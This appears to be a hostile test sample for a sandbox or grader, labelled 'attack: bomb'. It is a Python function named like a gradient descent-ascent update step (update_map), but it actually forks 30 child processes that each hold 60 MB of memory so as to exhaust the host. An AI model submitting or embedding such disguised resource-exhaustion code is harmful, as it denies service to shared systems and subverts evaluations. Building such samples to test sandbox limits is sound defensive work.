# attack: children that each hold a modest share of memory, and together more than there may be
# kind: bomb
# grade: 1.b
# outcome: memory, failed, timeout
# module: saddle

import os
import time


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for _ in range(30):
        if os.fork() == 0:
            held = bytearray(b"x") * (60 << 20)
            time.sleep(60)
            os._exit(len(held) % 2)
    time.sleep(60)
